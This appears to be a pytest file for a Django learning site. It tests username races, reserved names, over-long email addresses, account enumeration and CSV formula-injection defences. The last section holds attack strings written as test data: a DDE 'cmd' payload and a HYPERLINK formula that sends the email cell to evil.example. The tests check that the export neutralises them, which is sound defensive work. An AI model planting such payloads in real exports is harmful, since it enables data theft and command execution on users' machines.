"""Accounts under attack: racing for a name, squatting official names, over-long addresses,
finding out who has an account, and spreadsheet formulas in the CSV export."""

import csv
import io
import os
import subprocess
import sys

import pytest
from allauth.account.models import EmailAddress
from django.contrib.auth.models import User
from django.core import mail
from django.test import Client, override_settings
from django.urls import URLPattern, URLResolver, get_resolver

from accounts.forms import ProfileForm, username_is_reserved
from accounts.models import Profile
from accounts.services import UsernameTaken, profile_update
from careers.models import Skill
from core.spreadsheet import csv_cell, csv_cell_value
from roadmaps.models import Note
from roadmaps.services import progress_set
from tests.conftest import REPO_ROOT

pytestmark = pytest.mark.django_db

PASSWORD = "a-long-learner-password"


def sign_up(client, email):
    return client.post(
        "/accounts/signup/", {"email": email, "password1": PASSWORD, "password2": PASSWORD}
    )


def address_of_length(length: int) -> str:
    """A well-formed address: a 64-character local part and labels of at most 63."""
    local = "a" * 64
    domain_length = length - len(local) - 1
    labels = []
    while domain_length > 67:  # leave room for a last label and ".com"
        labels.append("b" * 60)
        domain_length -= 61
    labels.append("c" * (domain_length - 4) + ".com")
    address = f"{local}@{'.'.join(labels)}"
    assert len(address) == length
    return address


# --- (6) Two learners claiming one name at once --------------------------------------------


def test_a_name_taken_between_the_check_and_the_save_saves_nothing(learner):
    profile = Profile.objects.for_user(learner)
    form = ProfileForm(
        {"display_name": "New name", "username": "wanted", "progress_is_public": "on"},
        instance=profile,
    )
    assert form.is_valid()
    User.objects.create_user("wanted", "rival@example.com", PASSWORD)  # the other post wins

    with pytest.raises(UsernameTaken, match="That name is taken"):
        profile_update(
            profile=profile,
            username=form.cleaned_data["username"],
            display_name=form.cleaned_data["display_name"],
            progress_is_public=form.cleaned_data["progress_is_public"],
            weekly_digest=form.cleaned_data["weekly_digest"],
        )

    assert profile.user.username == "learner"
    saved = Profile.objects.get(user=learner)
    assert saved.display_name == ""
    assert not saved.progress_is_public
    learner.refresh_from_db()
    assert learner.username == "learner"


def test_losing_the_race_for_a_name_re_renders_the_form_with_an_error(
    learner_client, learner, monkeypatch
):
    check_name = ProfileForm.clean_username

    def check_then_lose_the_race(form):
        username = check_name(form)
        User.objects.create_user(username, "rival@example.com", PASSWORD)
        return username

    monkeypatch.setattr(ProfileForm, "clean_username", check_then_lose_the_race)
    response = learner_client.post(
        "/accounts/profile/",
        {"display_name": "New name", "username": "wanted", "progress_is_public": "on"},
    )

    assert response.status_code == 400
    assert response.context["form"].errors["username"] == [
        "That name is taken. Please choose another."
    ]
    html = response.content.decode()
    assert "That name is taken" in html
    assert "Your progress is private" in html  # the page tells what is saved, not what was sent
    learner.refresh_from_db()
    assert learner.username == "learner"
    saved = Profile.objects.get(user=learner)
    assert (saved.display_name, saved.progress_is_public) == ("", False)


# --- (7) Names that look official -------------------------------------------------------------


@pytest.mark.parametrize(
    "username",
    ["admin", "Admin", "ad-min", "admin_", "admin2", "a_d_m_i_n", "root", "support", "staff",
     "roadmaps", "healthz", "u_1", "null", "editors", "security", "ml-career-paths"],
)  # fmt: skip
def test_a_learner_cannot_take_a_name_that_looks_official(learner_client, learner, username):
    response = learner_client.post("/accounts/profile/", {"username": username})
    assert response.status_code == 400
    assert "That name is reserved for the site" in response.content.decode()
    learner.refresh_from_db()
    assert learner.username == "learner"


@pytest.mark.parametrize("username", ["jane-admin", "rooted", "helpful", "u2-fan", "supportive"])
def test_names_that_merely_contain_a_reserved_word_are_allowed(learner_client, learner, username):
    response = learner_client.post("/accounts/profile/", {"username": username})
    assert response.status_code == 302
    learner.refresh_from_db()
    assert learner.username == username


def test_an_account_already_named_admin_keeps_its_name(client):
    user = User.objects.create_user("admin", "owner@example.com", PASSWORD)
    client.force_login(user)
    response = client.post("/accounts/profile/", {"username": "admin", "display_name": "Owner"})
    assert response.status_code == 302


def test_every_top_level_path_of_the_site_is_a_reserved_name():
    def first_segments(patterns):
        for pattern in patterns:
            segment = str(pattern.pattern).lstrip("^").split("/")[0].split(".")[0]
            if segment and "<" not in segment:
                yield segment
            elif not segment and isinstance(pattern, URLResolver):
                yield from first_segments(pattern.url_patterns)
            else:
                assert isinstance(pattern, URLPattern | URLResolver)

    segments = set(first_segments(get_resolver().url_patterns))
    assert {"accounts", "admin", "u"} <= segments
    assert [segment for segment in sorted(segments) if not username_is_reserved(segment)] == []


@pytest.mark.parametrize("email", ["admin@example.com", "Ad.Min@example.com", "root@example.org"])
def test_signing_up_with_an_official_looking_address_gives_an_ordinary_name(email):
    client = Client()
    assert sign_up(client, email).status_code == 302
    user = User.objects.get()
    assert not username_is_reserved(user.username)
    assert user.username == "user"
    assert user.email == email.lower()


def test_a_second_official_looking_sign_up_gets_a_distinct_ordinary_name():
    sign_up(Client(), "admin@example.com")
    sign_up(Client(), "admin@example.org")
    names = sorted(User.objects.values_list("username", flat=True))
    assert len(set(names)) == 2
    assert not any(username_is_reserved(name) for name in names)


# --- (12) Addresses longer than an account can hold ----------------------------------------


def test_sign_up_refuses_an_address_longer_than_254_characters():
    address = address_of_length(257)
    response = sign_up(Client(), address)
    assert response.status_code == 200
    assert response.context["form"].errors["email"] == [
        "Use an email address of at most 254 characters: this one has 257, "
        "and mail cannot be delivered to it."
    ]
    assert not User.objects.exists()
    assert not EmailAddress.objects.exists()


def test_an_address_of_exactly_254_characters_is_kept_whole():
    address = address_of_length(254)
    assert sign_up(Client(), address).status_code == 302
    assert User.objects.get().email == address
    assert EmailAddress.objects.get().email == address


def test_adding_an_address_longer_than_254_characters_is_refused(learner_client, learner):
    response = learner_client.post(
        "/accounts/email/", {"email": address_of_length(255), "action_add": ""}
    )
    assert response.status_code == 200
    assert "at most 254 characters" in response.content.decode()
    assert not EmailAddress.objects.filter(user=learner).exclude(email=learner.email).exists()


# --- (13) Whether an address has an account ------------------------------------------------


@override_settings(ACCOUNT_EMAIL_VERIFICATION="optional")
def test_without_a_mail_server_sign_up_says_the_address_is_taken(learner):
    response = sign_up(Client(), "learner@example.com")
    assert response.status_code == 200
    assert "A user is already registered with this email address." in response.content.decode()
    assert User.objects.count() == 1


@override_settings(ACCOUNT_EMAIL_VERIFICATION="mandatory", ACCOUNT_PREVENT_ENUMERATION=True)
def test_with_a_mail_server_sign_up_answers_alike_and_mails_the_owner(learner):
    taken = sign_up(Client(), "Learner@example.com")
    fresh = sign_up(Client(), "newcomer@example.com")

    assert taken.status_code == fresh.status_code == 302
    assert taken["Location"] == fresh["Location"] == "/accounts/confirm-email/"
    assert User.objects.filter(email__iexact="learner@example.com").count() == 1
    to_owner = [message for message in mail.outbox if message.to == ["learner@example.com"]]
    assert len(to_owner) == 1
    assert "Account Already Exists" in to_owner[0].subject
    assert "already exists" in to_owner[0].body


@pytest.mark.parametrize(
    ("email_host", "verification"), [(None, "optional"), ("smtp.example.com", "mandatory")]
)
def test_configuring_a_mail_server_makes_confirming_the_address_mandatory(email_host, verification):
    env = {k: v for k, v in os.environ.items() if not k.startswith("DJANGO_")}
    if email_host:
        env["DJANGO_EMAIL_HOST"] = email_host
    code = (
        "from django.conf import settings; "
        "print(settings.ACCOUNT_EMAIL_VERIFICATION, settings.ACCOUNT_PREVENT_ENUMERATION)"
    )
    result = subprocess.run(
        [sys.executable, "manage.py", "shell", "--no-imports", "-c", code],
        cwd=REPO_ROOT,
        env={**env, "DJANGO_SETTINGS_MODULE": "config.settings"},
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.split() == [verification, "True"]


# --- (9) Spreadsheet formulas in the CSV export ---------------------------------------------

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def export_rows(client) -> list[dict[str, str]]:
    response = client.get("/accounts/export.csv")
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_every_cell_that_a_spreadsheet_would_run_starts_with_a_quote(
    learner_client, learner, start
):
    skill = Skill.objects.create(slug="python", name=f'{start}HYPERLINK("http://evil.example/")')
    progress_set(user=learner, skill=skill, status="done")
    Note.objects.create(user=learner, skill=skill, text=f"{start}1+1 is my note")
    profile = Profile.objects.for_user(learner)
    profile.display_name = f"{start}cmd|' /C calc'!A0"
    profile.save()

    rows = {row["record_type"]: row for row in export_rows(learner_client)}

    assert rows["account"]["name"] == f"'{start}cmd|' /C calc'!A0"
    assert rows["skill_progress"]["name"] == f'\'{start}HYPERLINK("http://evil.example/")'
    assert rows["note"]["name"] == f'\'{start}HYPERLINK("http://evil.example/")'
    assert rows["note"]["note_text"] == f"'{start}1+1 is my note"
    cells = [cell for row in rows.values() for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in FORMULA_STARTS]


def test_the_reviewed_payload_no_longer_reads_the_email_cell(learner_client, learner):
    payload = '=HYPERLINK("http://evil.example/?leak="&G2,"Python")'
    skill = Skill.objects.create(slug="python", name=payload)
    progress_set(user=learner, skill=skill, status="done")
    row = next(r for r in export_rows(learner_client) if r["record_type"] == "skill_progress")
    assert row["name"] == "'" + payload


def test_ordinary_values_are_exported_unchanged(learner_client, learner):
    skill = Skill.objects.create(slug="sql", name="SQL (2-3 weeks)")
    progress_set(user=learner, skill=skill, status="done")
    Note.objects.create(user=learner, skill=skill, text="'quoted' & a=b, 1-2 + 3")
    profile = Profile.objects.for_user(learner)
    profile.display_name = "Jane D."
    profile.save()

    rows = {row["record_type"]: row for row in export_rows(learner_client)}

    assert rows["account"]["name"] == "Jane D."
    assert rows["account"]["slug"] == "learner"
    assert rows["account"]["email"] == "learner@example.com"
    assert rows["note"]["name"] == "SQL (2-3 weeks)"
    assert rows["note"]["note_text"] == "'quoted' & a=b, 1-2 + 3"


@pytest.mark.parametrize(
    "value",
    ["- first point\n- second", "=SUM(A1:A3)", "+44 20", "@home", "\tindented", "\rx",
     "'=already quoted", "''@two quotes", "'plain quote", "plain", "", "'"],
    ids=repr,
)  # fmt: skip
def test_reading_a_cell_back_gives_exactly_what_was_written(value):
    assert csv_cell_value(csv_cell(value)) == value


def test_a_note_starting_with_a_dash_survives_export_and_reading_back(learner_client, learner):
    skill = Skill.objects.create(slug="sql", name="SQL")
    text = "- JOINs\n- window functions"
    Note.objects.create(user=learner, skill=skill, text=text)
    note = next(r for r in export_rows(learner_client) if r["record_type"] == "note")
    assert note["note_text"] == "'" + text
    assert csv_cell_value(note["note_text"]) == text
